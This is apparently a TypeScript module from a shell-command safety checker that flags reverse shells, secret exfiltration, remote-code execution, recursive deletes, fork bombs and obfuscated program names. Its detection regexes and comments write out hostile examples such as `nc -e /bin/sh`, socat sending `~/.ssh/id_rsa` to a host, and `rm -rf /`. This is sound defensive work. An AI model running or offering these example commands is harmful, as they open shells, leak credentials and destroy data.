// Code that runs other code: `bash -c`, `eval`, `source`, interpreters with
// inline programs, and the network tools that hand a shell to someone else or
// send secrets away.
import { hasOpt, operands, optValue } from "../argv.ts";
import type { Cmd, Word } from "../command.ts";
import { UPLOAD_OPTIONS, describeSource, isSecretFile, type Source } from "../flow.ts";
import type { Judgement } from "../judgement.ts";
import { HOME, INTERPRETERS, SHELLS, classifyPath, isSecretPath, normalizePath } from "../paths.ts";
import { deleteRule } from "./fs.ts";

/** `bash -c SCRIPT`, `bash <(…)`, `bash script.sh`. */
export function shell(cmd: Cmd, j: Judgement) {
  const args = cmd.args;
  // `bash < <(curl …)`: the program comes from the process substitution.
  const fromSub = cmd.redirects.find((r) => r.op === "<" && r.target?.procSub);
  if (fromSub?.target) return judgeSubstitutionScript(cmd, fromSub.target, j, "shell");
  const c = args.findIndex((w) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(w.text) && !w.text.startsWith("--"));
  if (c >= 0) {
    const script = args[c + 1];
    if (script) runScriptWord(cmd, script, j);
    return;
  }
  const ops = operands(cmd, ["-o", "-O", "+O", "--rcfile", "--init-file"]);
  const file = ops[0];
  if (file?.procSub) return judgeSubstitutionScript(cmd, file, j, "shell");
  // Interactive root shells.
  if (!file && cmd.asRoot && !(cmd.pipe && cmd.pipe.index > 0) && cmd.stdinText === undefined)
    j.report("priv.root-shell", cmd.start, cmd.end);
  if (cmd.stdinText !== undefined && !file) {
    const span = cmd.stdinWord ?? cmd;
    // `bash <<< "$(curl …)"`: judge what produces the text.
    if (cmd.stdinText === null && cmd.stdinWord?.subs.length) return judgeSubstitutionScript(cmd, cmd.stdinWord, j, "shell");
    if (cmd.stdinText === null) j.reportWord("exec.stdin-script", span);
    else j.nested(cmd.stdinText, span, cmd.stdinWord?.exactBase, { asRoot: cmd.asRoot });
  }
}

/** `eval ARGS…`: the words joined with spaces are a script. */
export function evalBuiltin(cmd: Cmd, j: Judgement) {
  if (cmd.args.length === 0) return;
  if (cmd.args.length === 1) return runScriptWord(cmd, cmd.args[0]!, j);
  const joined: Word = {
    ...cmd.args[0]!,
    text: cmd.args.map((w) => w.text).join(" "),
    end: cmd.args[cmd.args.length - 1]!.end,
    subs: cmd.args.flatMap((w) => w.subs),
    dynamic: cmd.args.some((w) => w.dynamic),
    exactBase: undefined,
  };
  runScriptWord(cmd, joined, j);
}

/** `source FILE` / `. FILE`. */
export function source(cmd: Cmd, j: Judgement) {
  const file = cmd.args[0];
  // bash `source <(…)`; fish `source (… | psub)`.
  if (file?.procSub || (file && file.subs.some((s) => s[s.length - 1]?.name === "psub"))) judgeSubstitutionScript(cmd, file, j, "shell");
  // `source /dev/stdin <<< TEXT`
  else if (file && /^(\/dev\/stdin|-)$/.test(file.text) && cmd.stdinText !== undefined) {
    if (cmd.stdinText === null && cmd.stdinWord?.subs.length) judgeSubstitutionScript(cmd, cmd.stdinWord, j, "shell");
    else if (cmd.stdinText === null) j.reportWord("exec.stdin-script", cmd.stdinWord ?? cmd);
    else j.nested(cmd.stdinText, cmd.stdinWord ?? cmd, cmd.stdinWord?.exactBase, { asRoot: cmd.asRoot });
  }
}

/** A word that will be run as a shell script. */
function runScriptWord(cmd: Cmd, w: Word, j: Judgement) {
  if (w.subs.length > 0 && w.dynamic) return judgeSubstitutionScript(cmd, w, j, "shell");
  if (w.dynamic) {
    j.reportWord("exec.eval-dynamic", w);
    return;
  }
  for (const s of w.subs) {
    // A substitution we could evaluate (`$(echo … | base64 -d)`) still reveals intent.
    const src = describeSource(s, s.length);
    if (src.decoded) j.reportWord("exec.obfuscated", w);
  }
  j.nested(w.text, w, w.exactBase, { asRoot: cmd.asRoot });
}

/** The script comes from `$(…)` or `<(…)`: judge what produces it. */
function judgeSubstitutionScript(cmd: Cmd, w: Word, j: Judgement, kind: "shell" | "interpreter") {
  const stages = w.subs[w.subs.length - 1] ?? [];
  const src = describeSource(stages, stages.length);
  const localTool = !src.remote && !src.decoded && src.text === null;
  judgeScriptSource(src, kind, cmd, j, { start: cmd.start, end: cmd.end }, localTool);
}

// ---- interpreters -------------------------------------------------------------

const CODE_FLAG: Record<string, string[]> = {
  python: ["-c"],
  python2: ["-c"],
  python3: ["-c"],
  pypy: ["-c"],
  pypy3: ["-c"],
  perl: ["-e", "-E"],
  ruby: ["-e"],
  node: ["-e", "--eval", "-p", "--print"],
  nodejs: ["-e", "--eval"],
  deno: ["eval"],
  bun: ["-e", "--eval"],
  php: ["-r"],
  lua: ["-e"],
  Rscript: ["-e"],
  osascript: ["-e"],
};

export function interpreter(cmd: Cmd, j: Judgement) {
  const lang = cmd.name.replace(/[\d.]+$/, "") || cmd.name;
  const flags = CODE_FLAG[cmd.name] ?? CODE_FLAG[lang] ?? ["-c", "-e"];
  const args = cmd.args;
  // `python3 -m http.server`: shares files on the network.
  const m = args.findIndex((w) => w.text === "-m");
  if (m >= 0) {
    const mod = args[m + 1]?.text ?? "";
    if (mod === "http.server" || mod === "SimpleHTTPServer") serveFiles(cmd, j, args.slice(m + 2));
    if (mod === "pip") pipLike(cmd, j, args.slice(m + 2));
    return;
  }
  if (cmd.name === "php" && args.some((w) => w.text === "-S")) return serveFiles(cmd, j, args);
  if (cmd.name === "ruby" && args.some((w) => w.text === "-run")) return serveFiles(cmd, j, args);
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!.text;
    const flag = flags.find(
      (f) => t === f || (t.startsWith(f) && t.length > f.length && !t.startsWith("--") && /^-[a-zA-Z]*$/.test(t) === false),
    );
    const bundled = /^-[a-zA-Z]+$/.test(t) && flags.some((f) => f.length === 2 && t.endsWith(f[1]!));
    if (flag || bundled) {
      const code = t === flag || bundled ? args[i + 1] : { ...args[i]!, text: t.slice(flag!.length) };
      if (!code) return;
      if (code.subs.length > 0 && code.dynamic) return judgeSubstitutionScript(cmd, code, j, "interpreter");
      judgeInterpreterCode(cmd.name, code.text, code, j, cmd);
      return;
    }
  }
  const file = operands(cmd)[0] ?? cmd.redirects.find((r) => r.op === "<" && r.target?.procSub)?.target ?? undefined;
  if (file?.procSub) judgeSubstitutionScript(cmd, file, j, "interpreter");
  else if (!file && cmd.stdinText != null) judgeInterpreterCode(cmd.name, cmd.stdinText, cmd.stdinWord ?? cmd, j, cmd);
}

function pipLike(cmd: Cmd, j: Judgement, rest: Word[]) {
  if (rest.some((w) => w.text === "--break-system-packages")) j.report("pkg.break-system", cmd.start, cmd.end);
  else if (cmd.asRoot && /^(install|uninstall)$/.test(rest[0]?.text ?? "")) j.report("pkg.system-change", cmd.start, cmd.end);
}

function serveFiles(cmd: Cmd, j: Judgement, rest: Word[]) {
  const dirWord =
    optValue({ ...cmd, args: rest }, ["-d"], ["--directory"]) ??
    (cmd.name === "php" ? optValue({ ...cmd, args: rest }, ["-t"], []) : undefined);
  const dir = dirWord?.text ?? cmd.cwd ?? ".";
  const { cls, path } = classifyPath(dir, cmd.cwd);
  if (isSecretPath(path)) return j.report("net.exfiltrate-secret", cmd.start, cmd.end);
  if (cls === "root" || cls === "home" || cls === "system") return j.report("net.serve-home", cmd.start, cmd.end);
  const bind =
    optValue({ ...cmd, args: rest }, ["-b"], ["--bind"])?.text ?? rest.find((w) => /^(127\.|localhost|\[::1\])/.test(w.text))?.text;
  if (bind && /^(127\.|localhost|::1|\[::1\])/.test(bind)) return;
  j.report("net.serve-cwd", cmd.start, cmd.end);
}

const HOME_EXPR =
  /expanduser\(\s*['"]~\/?['"]\s*\)|Path\.home\(\)|environ\[\s*['"]HOME['"]\s*\]|environ\.get\(\s*['"]HOME['"]|getenv\(\s*['"]HOME['"]\s*\)|homedir\(\)|process\.env\.HOME\b|process\.env\[\s*['"]HOME['"]\s*\]|ENV\[\s*['"]HOME['"]\s*\]|\$ENV\{\s*['"]?HOME['"]?\s*\}|Dir\.home|['"]~\/?['"]/;
const DELETE_TREE =
  /\b(shutil\.rmtree|rmtree|remove_tree|rm_rf|rm_r|rmSync|rmdirSync|rimraf|removedirs|fs\.rm|FileUtils\.rm|deleteRecursively|unlink_r)\s*\(?/g;
const DELETE_FILE = /\b(os\.remove|os\.unlink|unlinkSync|File\.delete|unlink|os\.rmdir|Path\([^)]*\)\.unlink|\.unlink\(\))/;
const SHELL_CALL =
  /\b(do shell script|os\.execute|io\.popen|os\.system|os\.popen|subprocess\.\w+|system|exec(?:Sync)?|spawn(?:Sync)?|shell_exec|passthru|popen|Popen|check_output|check_call|run)\s*\(?\s*(\[[^\]]*\]|(?:[rRbBuUfF]{1,2}(?=['"]))?(['"`])((?:\\.|(?!\3).)*)\3|qq?\{([^}]*)\}|qq?\(([^)]*)\))/g;

/** Inline code that runs text as code or as a command. */
const RUNS_TEXT =
  /\b(exec|eval|system|popen|spawn|spawnSync|execSync|execFileSync|shell_exec|passthru|proc_open|Popen|call|check_call|check_output|run|Function|instance_eval|class_eval)\s*[(`]|\bexec\s+|\bsystem\s*\$|`|%x[({]|os\.system|subprocess|child_process|IO\.popen|Kernel\.|compile\s*\(/;

/** Inline code that sends data to another host. */
const SENDS_OVER_NETWORK =
  /requests\.(post|put|patch|get)\s*\(|require\(\s*['"](https?|net|dgram|axios|node-fetch)['"]\s*\)|socket\.create_connection|urlopen\s*\(|urllib\.request\.Request|http\.client|httpx\.(post|put)|\.sendall?\s*\(|smtplib|ftplib|fetch\s*\(|axios\.(post|put)|https?\.request\s*\(|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|TCPSocket|fsockopen|curl_exec|file_get_contents\s*\(\s*['"]https?:[^)]*\.|Invoke-(WebRequest|RestMethod)|socket\.connect/;
/** The whole environment read from inside the program (one variable sent to its own service is normal). */
const DUMPS_ENVIRONMENT =
  /\b(str|dict|repr|json\.dumps)\s*\(\s*os\.environ\s*\)|os\.environ\.(items|copy)\s*\(|JSON\.stringify\s*\(\s*process\.env\s*\)|ENV\.(to_h|to_a|inspect)\b|\\?%ENV\b|getenv\(\s*\)/;

/**
 * Inline programs are not shell, so this reads them for behaviour instead of
 * parsing them: fork loops, recursive deletes of home or /, shell commands
 * passed to system()/subprocess (checked as shell), code fetched from the
 * network, and sockets wired to a shell.
 */
/**
 * `'rm -rf ' + process.env.HOME`, `f"rm -rf {os.environ['HOME']}"`, `` `rm -rf ${os.homedir()}` ``:
 * the home directory written as `~` and string concatenations joined, so the command can be read.
 */
function foldStrings(code: string): string {
  const home = HOME_EXPR.source;
  let out = code.replace(new RegExp(`\\$?\\{\\s*[\\w.]*(?:${home})\\s*\\}`, "g"), "~");
  out = out.replace(new RegExp(`(?:[\\w$]+(?:\\([^()]*\\))?\\.)*(?:${home})`, "g"), "'~'");
  for (let k = 0; k < 6; k++) {
    const next = out.replace(
      /(['"])((?:\\.|(?!\1).)*)\1\s*\+\s*(['"])((?:\\.|(?!\3).)*)\3/g,
      (_m, q: string, a: string, _q, b: string) => `${q}${a}${b}${q}`,
    );
    if (next === out) break;
    out = next;
  }
  return out;
}

export function judgeInterpreterCode(lang: string, code: string, span: { start: number; end: number }, j: Judgement, cmd: Cmd) {
  if (/\bfork\b/.test(code) && /\b(while|loop|for|until)\b|\{\s*fork|fork\s*\)\s*while|fork\s+while/.test(code))
    j.report("exec.fork-bomb", span.start, span.end);
  if (
    /socket|fsockopen|TCPSocket|IO::Socket|net\.connect|new\s+net\.Socket|require\(\s*['"]net['"]\s*\)|\/inet\/(tcp|udp)\//i.test(code) &&
    /dup2|pty\.spawn|\/bin\/(ba|z)?sh|subprocess|exec\s*\(|open3|spawn\(|popen|system\s*\(|system\s*\$_|fdopen|proc_open|shell_exec|\|&\s*getline|cmd\.exe/i.test(
      code,
    )
  )
    j.report("net.reverse-shell", span.start, span.end);
  if (
    /\b(exec|eval)\s*\(/.test(code) &&
    /urlopen|requests\.(get|post)|urllib|https?\.get|fetch\(|Net::HTTP|LWP|open-uri|file_get_contents\(\s*['"]https?:/.test(code)
  )
    j.report(
      /['"](http|ftp):\/\/|['"]https?:\/\/\d{1,3}(\.\d{1,3}){3}/.test(code) ? "exec.remote-code-insecure" : "exec.remote-code",
      span.start,
      span.end,
    );
  // Secrets read and sent: `requests.post(url, data=open("~/.aws/credentials").read())`, `urlopen(url, data=str(os.environ))`.
  if (SENDS_OVER_NETWORK.test(code)) {
    const secretFile = [...code.matchAll(/(?<![:\w/.@-])[~/.][\w./@-]*/g)].some((m) =>
      isSecretPath(normalizePath(m[0].replace(/^~/, HOME), cmd.cwd)),
    );
    if (secretFile || DUMPS_ENVIRONMENT.test(code)) j.report("net.exfiltrate-secret", span.start, span.end);
  }
  // Payloads hidden as hex or base64 inside the code: decode and judge them.
  for (const m of code.matchAll(
    /pack\(\s*["']H\*["']\s*,\s*["']([0-9a-fA-F]+)["']|bytes\.fromhex\(\s*["']([0-9a-fA-F]+)["']|(?:b64decode|base64_decode|atob|decode64)\(\s*b?["']([A-Za-z0-9+/=]+)["']|Buffer\.from\(\s*["']([A-Za-z0-9+/=]+)["']\s*,\s*["']base64["']/g,
  )) {
    const text =
      (m[1] ?? m[2]) ? Buffer.from((m[1] ?? m[2])!, "hex").toString("utf8") : Buffer.from((m[3] ?? m[4])!, "base64").toString("utf8");
    if (!/^[\x09\x0a\x0d\x20-\x7e]+$/.test(text)) continue;
    // Only a payload that is run hides anything: `print(b64decode('aGk='))` just prints.
    if (!RUNS_TEXT.test(code)) continue;
    j.report("exec.obfuscated", span.start, span.end);
    j.nested(text, span, undefined, { asRoot: cmd.asRoot });
  }
  let touched = false;
  for (const m of code.matchAll(DELETE_TREE)) {
    touched = true;
    const after = code.slice(m.index! + m[0].length, m.index! + m[0].length + 200);
    const argText = after.split(/\)\s*(;|$|\n)/)[0] ?? after;
    let rule: ReturnType<typeof deleteRule>;
    if (HOME_EXPR.test(argText) && !/['"]~?\/[^'"\s]+['"]/.test(argText.replace(HOME_EXPR, ""))) rule = "fs.delete-home";
    else {
      const lit = /['"]([^'"]+)['"]/.exec(argText)?.[1];
      rule = lit ? deleteRule({ ...cmd.argv[0]!, text: lit.replace(/^~/, HOME), glob: false }, true, cmd.cwd) : "fs.delete";
    }
    j.report(rule === "fs.delete" ? "exec.interpreter-code" : rule, span.start, span.end);
  }
  for (const m of foldStrings(code).matchAll(SHELL_CALL)) {
    touched = true;
    let script = m[4] ?? m[5] ?? m[6];
    if (script === undefined && m[2]?.startsWith("[")) {
      const items = [...m[2].matchAll(/['"]((?:\\.|[^'"])*)['"]/g)].map((x) => x[1]!);
      script = items.join(" ");
    }
    if (script) {
      // Escapes in the program's string literal (`os.system("\x72\x6d -rf /")`) are decoded by the language.
      const unescaped = script
        .replace(/\\x([0-9a-fA-F]{2})|\\u([0-9a-fA-F]{4})|\\([0-7]{3})/g, (_, x, u, o) =>
          String.fromCharCode(Number.parseInt(x ?? u ?? o, x || u ? 16 : 8)),
        )
        .replace(/\\(["'\\])/g, "$1");
      if (unescaped !== script.replace(/\\(["'\\])/g, "$1")) j.report("exec.obfuscated", span.start, span.end);
      const found = j.nested(unescaped, span, undefined, { asRoot: cmd.asRoot });
      if (found.length === 0) j.report("exec.interpreter-code", span.start, span.end);
    }
  }
  // An argument vector: spawnSync("rm", ["-rf", "/"]), execFile('rm', [...]), Popen(["rm", ...]) is covered above.
  for (const m of code.matchAll(
    /\b(spawnSync|spawn|execFileSync|execFile|execa|execaSync|Command::new)\s*\(\s*(['"`])([^'"`]+)\2\s*,\s*\[([^\]]*)\]/g,
  )) {
    touched = true;
    const argv = [m[3]!, ...[...m[4]!.matchAll(/['"`]((?:\\.|[^'"`])*)['"`]/g)].map((x) => x[1]!)];
    const found = j.nested(argv.map((a) => (/^[\w./=:@%+-]+$/.test(a) ? a : `'${a.replace(/'/g, "'\\''")}'`)).join(" "), span, undefined, {
      asRoot: cmd.asRoot,
    });
    if (found.length === 0) j.report("exec.interpreter-code", span.start, span.end);
  }
  // Ruby and Perl backticks and %x(): `rm -rf ~`, %x(rm -rf ~).
  for (const m of code.matchAll(/`([^`]+)`|%x[({]([^)}]+)[)}]/g)) {
    touched = true;
    const found = j.nested(m[1] ?? m[2]!, span, undefined, { asRoot: cmd.asRoot });
    if (found.length === 0) j.report("exec.interpreter-code", span.start, span.end);
  }
  if (!touched && DELETE_FILE.test(code)) j.report("exec.interpreter-code", span.start, span.end);
  void lang;
}

/** awk/gawk programs may call system("…"). */
export function awk(cmd: Cmd, j: Judgement) {
  const prog = operands(cmd, ["-f", "-v", "-F", "--file", "--assign", "--field-separator"])[0];
  if (!prog) return;
  for (const m of prog.text.matchAll(/system\s*\(\s*"((?:\\.|[^"])*)"/g)) j.nested(m[1]!, prog, undefined, { asRoot: cmd.asRoot });
  // `cmd = "rm -rf ~"; system(cmd)`, `print "rm -rf /" | "sh"`: the program's strings are what runs.
  const pipesToShell = /\|\s*"(?:\/bin\/)?(ba|z|da)?sh"/.test(prog.text);
  if (pipesToShell || /system\s*\(\s*[A-Za-z_$]/.test(prog.text))
    for (const m of prog.text.matchAll(/"((?:\\.|[^"])*)"/g))
      if (!/^(?:\/bin\/)?(ba|z|da)?sh$/.test(m[1]!) && /\s/.test(m[1]!)) j.nested(m[1]!, prog, undefined, { asRoot: cmd.asRoot });
  if (pipesToShell) j.reportWord("exec.stdin-script", prog);
  // gawk's /inet/tcp/… connection running what it reads (`|& getline`): a reverse shell.
  if (/\/inet\d?\/(tcp|udp)\//.test(prog.text) && /\|&|system\s*\(/.test(prog.text)) j.reportWord("net.reverse-shell", prog);
}

// ---- network --------------------------------------------------------------------

/** nc/ncat/socat: `-e /bin/sh` hands a shell to the other end; `-l` listens. */
export function netcat(cmd: Cmd, j: Judgement) {
  const text = cmd.args.map((w) => w.text).join(" ");
  if (cmd.name === "socat") {
    if (/\b(exec|system):/i.test(text) && /\b(tcp|udp|openssl|ssl)[46]?(-\w+)?:/i.test(text))
      j.report("net.reverse-shell", cmd.start, cmd.end);
    // `socat -u FILE:~/.ssh/id_rsa TCP:host:port`: a file address sent to a network address.
    else if (/\b(tcp|udp|openssl|ssl)[46]?(-connect)?:/i.test(text)) {
      const file = cmd.args.find(
        (w) => /^(file|open|gopen|create):/i.test(w.text) && isSecretFile(w.text.replace(/^\w+:/, "").split(",")[0]!, cmd),
      );
      if (file) j.reportWord("net.exfiltrate-secret", file);
    }
    return;
  }
  // `-e /bin/sh`, `-c bash`: the connection drives a shell (bind or reverse shell).
  const e = optValue(cmd, ["-e", "-c"], ["--exec", "--sh-exec", "--lua-exec"]);
  if (e) {
    const prog = (e.text.trim().split(/\s+/)[0] ?? "").split("/").pop() ?? "";
    if (SHELLS.has(prog) || INTERPRETERS.has(prog) || /^(cmd|cmd\.exe|powershell)$/.test(prog))
      return j.report("net.reverse-shell", cmd.start, cmd.end);
    return j.report("net.listen", cmd.start, cmd.end);
  }
  if (hasOpt(cmd, "l", "--listen")) j.report("net.listen", cmd.start, cmd.end);
  const input = cmd.redirects.find((r) => r.op === "<" && r.target && isSecretFile(r.target.text, cmd));
  if (input) j.report("net.exfiltrate-secret", cmd.start, cmd.end);
}

/** curl/wget uploads of secrets: `-F f=@~/.ssh/id_rsa`, `-d @.env`, `-T creds`, `--post-file=`. */
export function upload(cmd: Cmd, j: Judgement) {
  const args = cmd.args;
  const valued = UPLOAD_OPTIONS;
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!.text;
    const [opt, inline] =
      t.startsWith("--") && t.includes("=") ? [t.slice(0, t.indexOf("=")), t.slice(t.indexOf("=") + 1)] : [t, undefined];
    let value: Word | undefined;
    if (valued.has(opt)) value = inline !== undefined ? { ...args[i]!, text: inline } : args[i + 1];
    else if (/^-[FdT]./.test(t)) value = { ...args[i]!, text: t.slice(2) };
    if (!value) continue;
    const v = value.text;
    const file =
      opt === "-T" || opt === "--upload-file" || opt === "--post-file" || opt === "--body-file" ? v : /[@<]([^;,]+)/.exec(v)?.[1];
    if (file && file !== "-" && isSecretFile(file, cmd)) return j.reportWord("net.exfiltrate-secret", value);
  }
}

/** scp/sftp/rsync of secrets to another host. */
export function scp(cmd: Cmd, j: Judgement) {
  const ops = operands(cmd, ["-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J"]);
  if (!ops.some((w) => /^[^/]*:/.test(w.text))) return;
  for (const w of ops.slice(0, -1)) {
    const { cls, path } = classifyPath(w.text, cmd.cwd);
    if (isSecretPath(path) || isSecretFile(w.text, cmd)) return j.reportWord("net.copy-secret", w);
    // A whole home folder (keys and all) to another host: private data out, but often a backup.
    if (cls === "home" && (hasOpt(cmd, "r", "--recursive") || (cmd.name === "rsync" && hasOpt(cmd, "a", "--archive"))))
      return j.reportWord("net.upload-private", w);
  }
  // `scp -r ./etc root@host:/etc`: files written over the other machine's system folders.
  const dest = ops[ops.length - 1];
  const remotePath = dest && /^[^/]*:(\/.*)$/.exec(dest.text)?.[1];
  if (remotePath && cmd.name === "scp" && /^\/+$|^\/(etc|boot|usr|bin|sbin|lib\w*)(\/|$)/.test(remotePath))
    j.reportWord("fs.remote-overwrite-system", dest);
}

/**
 * ssh is a program with rules (not an unknown one run as root), but what it runs on the other
 * machine is judged by hooks.ssh, which reads bundled options (`-fNL 80:x:80`) correctly.
 */
export function ssh(_cmd: Cmd, _j: Judgement) {}

/**
 * Judges a script whose text comes from somewhere else: piped in, or produced
 * by `$(…)`/`<(…)`. `unknownOk` is for `eval "$(tool init)"`, where running a
 * local program's output is normal.
 */
export function judgeScriptSource(
  src: Source,
  kind: "shell" | "interpreter",
  consumer: Cmd,
  j: Judgement,
  span: { start: number; end: number },
  unknownOk = false,
) {
  if (src.remote) {
    j.report(src.remote.insecure ? "exec.remote-code-insecure" : "exec.remote-code", span.start, span.end, src.remote.url);
    // Downloaded and decoded before it runs: hidden twice over.
    if (src.decoded) j.report("exec.obfuscated", span.start, span.end);
    return;
  }
  if (src.history) return j.report("exec.history-replay", span.start, span.end);
  if (src.decoded) j.report("exec.obfuscated", span.start, span.end);
  if (src.text !== null) {
    if (kind === "shell") j.nested(src.text, span, undefined, { asRoot: consumer.asRoot });
    else judgeInterpreterCode(consumer.name, src.text, span, j, consumer);
    return;
  }
  if (!src.decoded && !unknownOk) j.report("exec.stdin-script", span.start, span.end);
}

/**
 * Download-then-run across `;`, `&&` or lines: `curl -o x URL; sh x`,
 * `wget URL -O p && chmod +x p && ./p`, `curl -O URL/setup.py && python3 setup.py`.
 */
export function runsDownloaded(cmd: Cmd, j: Judgement) {
  const d = cmd.downloads;
  const written = cmd.written;
  if ((!d || d.size === 0) && (!written || written.size === 0)) return;
  const candidates: Word[] = [];
  if (cmd.argv[0] && cmd.argv[0].text.includes("/")) candidates.push(cmd.argv[0]);
  // A bare name found on PATH: `… | sudo tee /usr/local/bin/a && a`.
  else if (cmd.argv[0] && d) {
    for (const path of d.keys())
      if (
        /^(\/usr\/local\/s?bin|\/usr\/s?bin|\/s?bin|~\/bin|~\/\.local\/bin|\/opt\/homebrew\/bin)\/[^/]+$/.test(path) &&
        path.endsWith("/" + cmd.name)
      )
        candidates.push({ ...cmd.argv[0], text: path });
  }
  if (SHELLS.has(cmd.name) || INTERPRETERS.has(cmd.name) || /^python[\d.]*$/.test(cmd.name) || cmd.name === "source" || cmd.name === ".") {
    const first = operands(cmd, ["-o", "-O", "+O", "-m", "-W", "-X"])[0];
    if (first && !hasOpt(cmd, "c")) candidates.push(first);
    // `sh < install.sh`
    for (const r of cmd.redirects) if (r.op === "<" && r.target && !first) candidates.push(r.target);
  }
  if (/^(dpkg|rpm|installer|apt|apt-get|msiexec|open|hdiutil)$/.test(cmd.name)) candidates.push(...operands(cmd, ["-target"]));
  // `java -jar app.jar`
  if (cmd.name === "java") {
    const jar = optValue(cmd, ["-jar"], []);
    if (jar) candidates.push(jar);
  }
  for (const w of candidates) {
    const path = normalizePath(w.text, cmd.cwd);
    // A script this command line wrote a moment ago: judge what it holds.
    const text = written?.get(path);
    if (text !== undefined && !INTERPRETERS.has(cmd.name) && !/^python/.test(cmd.name)) {
      j.nested(text, cmd, undefined, { asRoot: cmd.asRoot });
      return;
    }
    const src = d?.get(path);
    if (src)
      return j.report(src.insecure ? "exec.remote-code-insecure" : "exec.remote-code", cmd.start, cmd.end, `downloaded from ${src.url}`);
  }
}

// ---- program names spelled to hide them ------------------------------------------

/** Programs worth trying when a name is a glob (`/???/r? -rf /`) or an alias (`nc.traditional`). */
const DISGUISED = [
  "rm",
  "dd",
  "shred",
  "wipefs",
  "mkfs",
  "chmod",
  "chown",
  "mv",
  "nc",
  "ncat",
  "bash",
  "sh",
  "curl",
  "wget",
  "python3",
  "perl",
  "kill",
  "reboot",
  "shutdown",
  "crontab",
  "truncate",
  "find",
];

function globRegex(glob: string): RegExp | undefined {
  if (!/[*?[]/.test(glob) || glob.length > 40) return undefined;
  const src = glob
    .replace(/[.+^${}()|\\]/g, "\\$&")
    .replace(/\*/g, ".*")
    .replace(/\?/g, ".");
  try {
    return new RegExp(`^${src}$`);
  } catch {
    return undefined;
  }
}

/**
 * A program whose name is hidden: printed by a decoder (`$(echo cm0g… | base64 -d) …`), looked up
 * (`$(which rm) -rf /`, `$(command -v nc)`), matched by a glob (`/???/r? -rf /`) or a distribution's
 * alias (`nc.traditional -e /bin/sh …`). Judged as the program it names.
 */
export function disguisedProgram(cmd: Cmd, j: Judgement) {
  const w0 = cmd.argv[0];
  if (!w0) return;
  const as = (name: string) => {
    const argv = [{ ...w0, text: name, dynamic: false, glob: false, subs: [] }, ...cmd.args];
    return j.judge({ ...cmd, name, argv, args: cmd.args });
  };
  const sub = w0.subs[w0.subs.length - 1];
  if (sub?.length) {
    const src = describeSource(sub, sub.length);
    if (src.decoded) j.reportWord("exec.obfuscated", w0);
    const s0 = sub[0]!;
    const look = s0.argv[0]?.text === "command" ? s0.argv.slice(1) : s0.args;
    if (sub.length === 1 && /^(which|whereis|type|command)$/.test(s0.argv[0]?.text ?? s0.name)) {
      const prog = look.filter((w) => !w.text.startsWith("-")).pop();
      if (prog && !prog.dynamic && cmd.name === "") return void as(prog.text.split("/").pop()!);
    }
    // The substitution printed a whole command line: judge it with the rest of the words.
    if (!w0.dynamic && /\S\s+\S/.test(w0.text.trim())) {
      const rest = cmd.args.map((w) => (/^[\w./=:@%+-]+$/.test(w.text) ? w.text : `'${w.text.replace(/'/g, "'\\''")}'`));
      j.nested([w0.text.trim(), ...rest].join(" "), w0);
      return;
    }
  }
  // A glob naming one dangerous program (`/???/r?`), not one that matches anything (`*`).
  const base = w0.text.split("/").pop() ?? "";
  if (w0.glob && !w0.quoted && /[a-z]/.test(base)) {
    const re = globRegex(base);
    const names = re ? DISGUISED.filter((n) => re.test(n)) : [];
    if (names.length === 1 && as(names[0]!).length) return void j.reportWord("exec.obfuscated", w0);
  }
  // `r$@m -rf /`, `r${X}m`: unset expansions inside a name that otherwise spells a dangerous program.
  if (cmd.name === "" && w0.dynamic && !w0.subs.length) {
    const bare = w0.text.replace(/[\uE000\uE001]/g, "");
    if (bare !== w0.text && DISGUISED.includes(bare) && /^[a-z]/.test(w0.text) && as(bare).length)
      return void j.reportWord("exec.obfuscated", w0);
  }
  // PowerShell's `iex (irm URL)` pasted into a POSIX shell: the parenthesised expression is not an argument
  // here, so `iex` seems to have none; Elixir's `iex` REPL really has none.
  if (/^(iex|invoke-expression)$/i.test(cmd.name) && cmd.args.length === 0 && cmd.end > w0.end + 1)
    return void j.report("exec.powershell-eval", cmd.start, cmd.end);
  const alias = /^(nc|netcat|ncat)[.-](traditional|openbsd|nmap)$|^netcat-(traditional|openbsd)$/.exec(cmd.name);
  if (alias) as("nc");
}
